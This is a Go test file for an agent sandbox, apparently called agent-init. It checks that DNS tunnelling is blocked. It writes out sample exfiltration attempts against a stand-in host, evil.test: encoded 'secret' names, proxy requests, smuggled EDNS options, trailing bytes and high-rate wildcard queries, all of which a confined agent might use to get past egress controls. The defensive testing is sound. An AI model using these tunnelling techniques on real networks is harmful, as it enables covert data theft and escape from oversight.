package dns

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/agent-init/agent-init/internal/lab"
	"github.com/agent-init/agent-init/test/attack/rig"
)

// secret is a name that carries data to its zone's owner.
const secret = "mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.test"

// wire is a message in hex, as poke takes it.
func wire(t *testing.T, m *dns.Msg, trailing ...byte) string {
	t.Helper()
	raw, err := m.Pack()
	rig.Must(t, err)
	return hex.EncodeToString(append(raw, trailing...))
}

var _ = rig.Also(TestNoTunnelOverOpenDNS, rig.InUp)

func TestNoTunnelOverOpenDNS(t *testing.T) {
	w := rig.Confine(t, rig.Nameless, lab.BoxOptions{})
	rig.EvilZone(w.Lab)
	evil4, evil6 := rig.Named("evil.test")
	var attempts [][]string
	for _, server := range []netip.Addr{rig.Google4, rig.Google6, lab.Upstream4, lab.Upstream6, evil4, evil6} {
		attempts = append(attempts,
			[]string{"dns", rig.At(server, 53), secret, "A"},
			[]string{"dns", "-tcp", rig.At(server, 53), "TCP-" + secret, "TXT"})
	}
	open := w.Open(lab.BoxOptions{})
	for _, a := range attempts {
		w.Possible(open, a...)
	}
	w.Lab.DNS.Forget()
	for _, a := range attempts {
		if p := w.Blocked(a...); p.Detail["rcode"] != "NXDOMAIN" || p.Detail["ede"] != float64(dns.ExtendedErrorCodeBlocked) {
			t.Errorf("%v: not refused by our resolver: %s", a, p)
		}
		if p := w.Box.Poke(0, a...); p.OK {
			t.Errorf("got through as root: %v: %s", a, p)
		}
	}
	// What is no DNS at all goes nowhere either.
	w.Blocked("udp", "-timeout", "200ms", "-send", "orders?", rig.At(rig.Google4, 53))
	w.Poke("udp", "-noreply", "-size", "3000", "-send", "orders?", rig.At(rig.Google4, 53))
	w.Blocked("tcp", "-timeout", "200ms", "-send", "orders?", rig.At(rig.Google6, 53))
	w.Unasked("evil.test")
	w.Sealed(rig.Port53)
	w.Audited("the denied name", func(e rig.Event) bool {
		return e.Kind == "dns" && e.Verdict == "deny" && e.Name == strings.ToLower(secret)
	})
}

func TestNoTunnelThroughPermittedResolver(t *testing.T) {
	l := rig.NewLab(t)
	l.DNS.SetAddrs("*", "45.30.66.6", "2a0f:30:66::6") // every name there is
	w := rig.ConfineIn(t, l, rig.Nameless, lab.BoxOptions{})
	names := []string{
		secret,
		strings.Repeat("a", 63) + "." + strings.Repeat("b", 63) + "." + strings.Repeat("c", 63) + ".evil.test",
		`binary\000\255\046.evil.test`,
		"1.2.3.4.5.6.7.8.9.a.b.c.d.e.f.0.1.2.3.4.5.6.7.8.9.a.b.c.d.e.f.0.ip6.arpa",
		"6.66.30.45.in-addr.arpa",
		"secret", "secret.local", "secret.localhost", "secret.invalid", "secret.onion", "secret.use-application-dns.net",
		"_dns.resolver.arpa", "_8443._https.secret.evil.test",
		"ok.test.evil.test", "ok.test", // not of this list
	}
	server := rig.At(lab.Upstream4, 53)
	open := w.Open(lab.BoxOptions{})
	for _, name := range names {
		w.Possible(open, "dns", server, name, "A")
	}
	l.DNS.Forget()
	for _, name := range names {
		p := w.Poke("dns", server, name, "A")
		if p.OK && !slices.Equal(rig.Values(p, "addrs"), []string{"127.0.0.1"}) {
			t.Errorf("answered: %s: %s", name, p)
		}
		w.Poke("dns", "-tcp", rig.At(lab.Upstream6, 53), name, "AAAA")
	}
	w.Blocked("resolve", secret)
	w.Unasked()
	w.Sealed()
}

// TestTunnelUnderWildcardIsRationed: the names below a wildcard can't be told from a
// tunnel's, but how many there are can.
func TestTunnelUnderWildcardIsRationed(t *testing.T) {
	const long, short = "*.cdn.test", "*.short.test"
	w := rig.Confine(t, long+"\n"+short+"\nok.test\n", lab.BoxOptions{})
	w.Lab.DNS.SetAddrs(long, "45.30.0.20")
	w.Lab.DNS.SetAddrs(short, "45.30.0.21")
	for _, c := range []struct {
		zone, name  string
		first, rate float64 // names at once, and per second
	}{
		{long, "{n}-" + strings.Repeat("x", 56) + ".cdn.test", 30, 0.5},
		{short, "{n}.short.test", 120, 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			begin := time.Now()
			p := w.Poke("dns", "-n", "1000", "-c", "8", rig.At(lab.Upstream4, 53), c.name, "A")
			most := c.first + c.rate*time.Since(begin).Seconds() + 1
			asked := map[string]bool{}
			for _, q := range w.Lab.Queries(strings.TrimPrefix(c.zone, "*.")) {
				asked[q.Name] = true
			}
			if n := float64(len(asked)); n > most || n < c.first {
				t.Errorf("%v names reached the zone, want %v to %v: %s", n, c.first, most, p)
			}
			w.Audited("the rate limit of "+c.zone, func(e rig.Event) bool {
				return e.Kind == "dns" && e.Verdict == "deny" && e.Name == c.zone && strings.HasPrefix(e.Rule, "allowlist.txt:") && strings.Contains(e.Reason, "rate")
			})
			w.Works("resolve", strings.ReplaceAll(c.name, "{n}", "0")) // known names still are
		})
	}
	w.Works("http", "https://ok.test/")
	open := w.Open(lab.BoxOptions{})
	w.Lab.DNS.Forget()
	w.Possible(open, "dns", "-n", "1000", "-c", "8", rig.At(lab.Upstream4, 53), "{n}.short.test", "A")
	if n := len(w.Lab.Queries("short.test")); n < 1000 {
		t.Errorf("only %d queries arrive without agent-init", n)
	}
}

// TestNothingResolvesDeniedNames: nothing that listens within the agent's reach
// looks a name up for it before the policy has been asked.
func TestNothingResolvesDeniedNames(t *testing.T) {
	w := rig.Confine(t, rig.Allowlist, lab.BoxOptions{})
	rig.EvilZone(w.Lab)
	ports := rig.Listening(w)
	if len(ports) == 0 {
		t.Fatal("no listening socket found, not even the resolver's")
	}
	for _, port := range ports {
		for _, request := range []string{
			"CONNECT " + secret + ":443 HTTP/1.1\r\nHost: " + secret + ":443\r\n\r\n",
			"GET http://" + secret + "/ HTTP/1.1\r\nHost: " + secret + "\r\n\r\n",
			"\x05\x01\x00\x05\x01\x00\x03" + string(rune(len(secret))) + secret + "\x01\xbb", // SOCKS 5
		} {
			for _, host := range []string{"127.0.0.1", "[::1]"} {
				w.Poke("tcp", "-timeout", "200ms", "-hex", hex.EncodeToString([]byte(request)), fmt.Sprintf("%s:%d", host, port))
			}
		}
	}
	// The same over what is allowed: names inside of requests mean nothing.
	ok4, _ := rig.Named("ok.test")
	w.Blocked("http", "-h1", "-host", secret, "-addr", rig.At(ok4, 80), "http://"+secret+"/")
	w.Blocked("http", "https://"+secret+"/")
	w.Unasked("evil.test")
}

var _ = rig.Also(TestOtherResolversUnreached, rig.OverXtables)

func TestOtherResolversUnreached(t *testing.T) {
	w := rig.Confine(t, "ok.test\n*.cdn.test\n", lab.BoxOptions{})
	rig.EvilZone(w.Lab)
	w.Lab.DNS.SetAddrs("*.cdn.test", "45.30.0.20")
	open := w.Open(lab.BoxOptions{})
	others := func(server netip.Addr) [][]string {
		var out [][]string
		for _, port := range []uint16{80, 443, 853, 5353, 5355, 8053} {
			out = append(out, []string{"tcp", rig.At(server, port)}, []string{"udp", "-timeout", "200ms", rig.At(server, port)})
		}
		return out
	}
	for _, a := range others(rig.Google4) {
		w.Possible(open, a...)
	}
	w.Lab.DNS.Forget()
	ok4, _ := rig.Named("ok.test")
	for _, server := range []netip.Addr{rig.Google4, rig.Google6} {
		if p := w.Works("dns", rig.At(server, 53), "ok.test", "A"); !slices.Equal(rig.Values(p, "addrs"), []string{ok4.String()}) {
			t.Errorf("not our answer: %s", p)
		}
		w.Blocked("dns", rig.At(server, 53), secret, "A")
		w.Sealed(lab.ToAddr(server.String()))
	}
	for _, server := range []netip.Addr{rig.Google4, rig.Google6, lab.Upstream4, lab.Upstream6} {
		for _, a := range others(server) {
			w.Blocked(a...)
		}
	}
	for _, a := range others(lab.Upstream4) {
		if p := w.Box.Poke(0, a...); p.OK {
			t.Errorf("got through as root: %v: %s", a, p)
		}
	}
	w.Sealed(lab.Not(rig.Port53))

	// The way that the guard's query went is not open to who sends from the same
	// port behind it: the server, which may be the attacker's, knows that port.
	for i := range 4 {
		w.Works("resolve", fmt.Sprintf("n%d.cdn.test", i))
	}
	queries := w.Lab.Queries("cdn.test")
	if len(queries) < 4 {
		t.Fatalf("only %d queries left", len(queries))
	}
	for _, q := range queries {
		for _, uid := range []string{"1000", "0"} {
			from := []string{"udp", "-noreply", "-from", fmt.Sprint(q.Client.Port()), "-send", "secret", rig.At(q.Server, 53)}
			if p := w.Root(append([]string{"poke", "as", uid}, from...)...); p.Code != 0 {
				t.Fatalf("%s", p)
			}
		}
	}
	w.Sealed(func(p *lab.Packet) bool { return bytes.Contains(p.Payload, []byte("secret")) })

	// Not even a policy that names the server opens a second way to resolve.
	if r := w.SetPolicy("ok.test\n8.8.8.8:53\n8.8.8.8:53/udp\n[2001:4860:4860::8888]:53/udp\n192.0.2.53:53/udp\n"); r.Code != 0 {
		t.Fatalf("reload: %s", r)
	}
	for _, server := range []netip.Addr{rig.Google4, rig.Google6, lab.Upstream4} {
		w.Blocked("dns", rig.At(server, 53), secret, "A")
		w.Blocked("dns", "-tcp", rig.At(server, 53), secret, "A")
	}
	w.Sealed(lab.ToAddr(rig.Google4.String()))
	w.Sealed(lab.ToAddr(rig.Google6.String()))
	w.Unasked("evil.test")
}

func TestExoticTypesUnasked(t *testing.T) {
	l := rig.NewLab(t)
	ok4, ok6 := rig.Named("ok.test")
	records := []dns.RR{lab.ECH("ok.test", ok4, ok6),
		&dns.NULL{Hdr: dns.RR_Header{Name: "ok.test.", Rrtype: dns.TypeNULL, Class: dns.ClassINET, Ttl: 60}, Data: "orders"}}
	for _, s := range []string{`TXT "orders"`, "MX 1 orders.test.", "NS orders.test.", "SRV 1 1 443 orders.test.", "CAA 0 issue orders",
		`NAPTR 1 1 "u" "E2U+x" "!.*!orders!" .`, "SVCB 1 orders.test.", "PTR orders.test.", `URI 1 1 "orders"`, "DNSKEY 257 3 13 b3JkZXJz"} {
		records = append(records, rig.Record("ok.test. 60 IN "+s))
	}
	l.DNS.Set("ok.test", lab.Answer{Addrs: []netip.Addr{ok4, ok6}, Records: records})
	w := rig.ConfineIn(t, l, "ok.test\n", lab.BoxOptions{})
	open := w.Open(lab.BoxOptions{})
	for _, rr := range records {
		w.Possible(open, "dns", rig.At(lab.Upstream4, 53), "ok.test", dns.TypeToString[rr.Header().Rrtype])
	}
	l.DNS.Forget()
	types := []string{"CNAME", "SOA", "ANY", "AXFR", "IXFR", "DS", "RRSIG", "TYPE65280"}
	for _, rr := range records {
		types = append(types, dns.TypeToString[rr.Header().Rrtype])
	}
	for _, qtype := range types {
		p := w.Blocked("dns", rig.At(lab.Upstream4, 53), "ok.test", qtype)
		if p.Detail["rcode"] != "NOERROR" || p.Detail["additional"] != float64(1) { // 1: the OPT record
			t.Errorf("%s: want an empty answer, so that clients go on: %s", qtype, p)
		}
		w.Blocked("dns", "-tcp", rig.At(lab.Upstream4, 53), "ok.test", qtype)
	}
	w.Works("dns", rig.At(lab.Upstream4, 53), "ok.test", "A")
	for _, q := range l.Queries() {
		if q.Type != dns.TypeA && q.Type != dns.TypeAAAA {
			t.Errorf("type %s was asked upstream", dns.Type(q.Type))
		}
	}
}

// TestQueryCarriesNoBitsOfTheClient: whatever a client hides in its message, the query that
// leaves is the same.
func TestQueryCarriesNoBitsOfTheClient(t *testing.T) {
	w := rig.Confine(t, "*.cdn.test\n", lab.BoxOptions{})
	w.Lab.DNS.SetAddrs("*.cdn.test", "45.30.0.20")
	loud := new(dns.Msg).SetQuestion("lOuD.cDn.TeSt.", dns.TypeA)
	loud.Id, loud.RecursionDesired, loud.AuthenticatedData, loud.CheckingDisabled, loud.Zero = 0x1234, false, true, true, true
	loud.SetEdns0(4096, true)
	loud.IsEdns0().Option = []dns.EDNS0{
		&dns.EDNS0_LOCAL{Code: 65001, Data: []byte("orders?")},
		&dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: "6f72646572733f21"},
		&dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 32, Address: []byte{111, 114, 100, 101}},
		&dns.EDNS0_PADDING{Padding: []byte("orders?")},
		&dns.EDNS0_NSID{Code: dns.EDNS0NSID},
	}
	calm := new(dns.Msg).SetQuestion("calm.cdn.test.", dns.TypeA)
	calm.Id = 0x1234
	server := rig.At(lab.Upstream4, 53)

	w.Possible(w.Open(lab.BoxOptions{}), "dns", "-raw", wire(t, loud), server)
	if q := w.Lab.Queries("loud.cdn.test"); len(q) != 1 || len(q[0].Options()) != 5 || q[0].Name != "lOuD.cDn.TeSt" || !q[0].Msg.CheckingDisabled {
		t.Fatalf("an open box's query does not show what it hides: %v", q)
	}
	w.Lab.DNS.Forget()
	for _, m := range []*dns.Msg{loud, calm} {
		if p := w.Works("dns", "-raw", wire(t, m), server); len(rig.Values(p, "addrs")) != 1 || !strings.HasPrefix(rig.Values(p, "answers")[0], m.Question[0].Name) {
			t.Errorf("not the answer to the question as it was asked: %s", p)
		}
	}
	queries := w.Lab.Queries("cdn.test")
	if len(queries) != 2 {
		t.Fatalf("%d queries left, want 2", len(queries))
	}
	if queries[0].Msg.Id == 0x1234 && queries[1].Msg.Id == 0x1234 {
		t.Error("the client chose the identifier")
	}
	if len(queries[0].Options()) != 0 {
		t.Errorf("options left: %v", queries[0].Options())
	}
	canonical := func(q lab.Query) []byte { return bytes.Replace(q.Raw[2:], []byte("calm"), []byte("loud"), 1) }
	if a, b := canonical(queries[0]), canonical(queries[1]); !bytes.Equal(a, b) {
		t.Errorf("a client can make the query differ:\n%x\n%x", a, b)
	}
}

func TestOddMessagesRefused(t *testing.T) {
	w := rig.Confine(t, rig.Allowlist, lab.BoxOptions{})
	rig.EvilZone(w.Lab)
	w.Lab.DNS.SetAddrs("*.cdn.test", "45.30.0.20")
	odd := func(change func(*dns.Msg)) string {
		m := new(dns.Msg).SetQuestion("odd.cdn.test.", dns.TypeA)
		change(m)
		return wire(t, m)
	}
	second := dns.Question{Name: secret + ".", Qtype: dns.TypeA, Qclass: dns.ClassINET}
	txt := rig.Record(secret + `. 60 IN TXT "secret"`)
	badVers := dns.RcodeToString[dns.RcodeBadVers]
	tests := []struct{ name, raw, rcode string }{
		{"two questions", odd(func(m *dns.Msg) { m.Question = append(m.Question, second) }), "FORMERR"},
		{"the denied one first", odd(func(m *dns.Msg) { m.Question = []dns.Question{second, m.Question[0]} }), "FORMERR"},
		{"no question", odd(func(m *dns.Msg) { m.Question = nil }), "FORMERR"},
		{"an answer", odd(func(m *dns.Msg) { m.Answer = []dns.RR{txt} }), "FORMERR"},
		{"an authority", odd(func(m *dns.Msg) { m.Ns = []dns.RR{txt} }), "FORMERR"},
		{"two OPT records", odd(func(m *dns.Msg) { m.SetEdns0(1232, false); m.Extra = append(m.Extra, m.Extra[0]) }), "FORMERR"},
		{"EDNS version 1", odd(func(m *dns.Msg) { m.SetEdns0(1232, false); m.IsEdns0().SetVersion(1) }), badVers},
		{"IQUERY", odd(func(m *dns.Msg) { m.Opcode = dns.OpcodeIQuery }), "NOTIMP"},
		{"STATUS", odd(func(m *dns.Msg) { m.Opcode = dns.OpcodeStatus }), "NOTIMP"},
		{"NOTIFY", odd(func(m *dns.Msg) { m.Opcode = dns.OpcodeNotify }), "NOTIMP"},
		{"UPDATE", odd(func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate; m.Ns = []dns.RR{txt} }), "NOTIMP"},
		{"class CH", odd(func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS }), "REFUSED"},
		{"class ANY", odd(func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassANY }), "REFUSED"},
		{"a response", odd(func(m *dns.Msg) { m.Response = true }), ""},
		{"a pointer to itself", "123401000001000000000000c00c00010001", "FORMERR"},
		{"cut short", "123401000001000000000000036f6464", "FORMERR"},
		{"no header", "1234010000", ""},
	}
	open := w.Open(lab.BoxOptions{})
	for _, c := range tests {
		open.Poke(lab.AgentUID, "dns", "-timeout", "100ms", "-raw", c.raw, rig.At(lab.Upstream4, 53))
	}
	if !rig.Eventually(lab.Patience, func() bool { return len(w.Lab.Queries()) >= len(tests) }) {
		t.Fatalf("only %d of %d messages arrive without agent-init", len(w.Lab.Queries()), len(tests))
	}
	w.Lab.DNS.Forget()
	for _, c := range tests {
		t.Run(c.name, func(t *testing.T) {
			for _, transport := range []string{"-tcp=false", "-tcp"} {
				p := w.Poke("dns", transport, "-timeout", "300ms", "-raw", c.raw, rig.At(lab.Upstream4, 53))
				if got, _ := p.Detail["rcode"].(string); got != c.rcode {
					t.Errorf("%s: got %q, want %q: %s", transport, got, c.rcode, p)
				}
			}
		})
	}
	w.Unasked("evil.test", "odd.cdn.test")

	// What comes behind an honest question stays behind.
	m := new(dns.Msg).SetQuestion("tail.cdn.test.", dns.TypeA)
	w.Works("dns", "-raw", wire(t, m, []byte("secret")...), rig.At(lab.Upstream4, 53))
	m.Extra = []dns.RR{rig.Record(`tail.cdn.test. 60 IN TXT "secret"`)}
	m.Question[0].Name = "tail2.cdn.test."
	w.Works("dns", "-raw", wire(t, m), rig.At(lab.Upstream4, 53))
	if queries := w.Lab.Queries("cdn.test"); len(queries) != 2 {
		t.Errorf("%d queries left, want 2", len(queries))
	} else if bytes.Contains(append(queries[0].Raw, queries[1].Raw...), []byte("secret")) {
		t.Error("a client's trailing bytes left")
	}
	w.Works("http", "https://ok.test/")
}
